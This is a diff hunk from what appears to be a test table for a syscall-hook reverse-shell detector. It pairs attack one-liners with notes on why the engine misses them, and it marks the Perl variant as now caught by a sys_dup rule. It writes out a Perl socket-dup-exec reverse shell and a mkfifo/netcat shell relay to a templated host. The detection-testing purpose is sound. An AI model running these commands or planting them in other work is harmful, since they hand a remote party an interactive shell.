@@ -60,9 +60,7 @@ ATTACKS = {
         "perl -MPOSIX -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,0);"
         "connect(S,sockaddr_in({p},inet_aton(\"{h}\"))) or die;"
         "POSIX::close($_) for 0..2; POSIX::dup(fileno(S)) for 0..2; exec(\"/bin/sh\",\"-i\")'",
-        "dup(2) returns the new fd (0-2) only as its return value: needs matchReturnArgs on "
-        "sys_dup, or the fd_install equivalent (which this engine refuses: 'syscall accept: "
-        "unknown here or too many syscalls for one hook'), or exec events carrying fd 0-2 types"),
+        None),  # the sys_dup rule: matchReturnArgs InRange 0:2
     "mkfifo relay (sh -i <f | nc >f)": (
         "cd $(mktemp -d) && mkfifo f && (sh -i < f 2>&1 | nc.traditional -q 1 {h} {p} > f); rm -rf $PWD",
         "no socket ever reaches the shell's stdio (FIFO and pipe): needs exec events carrying "
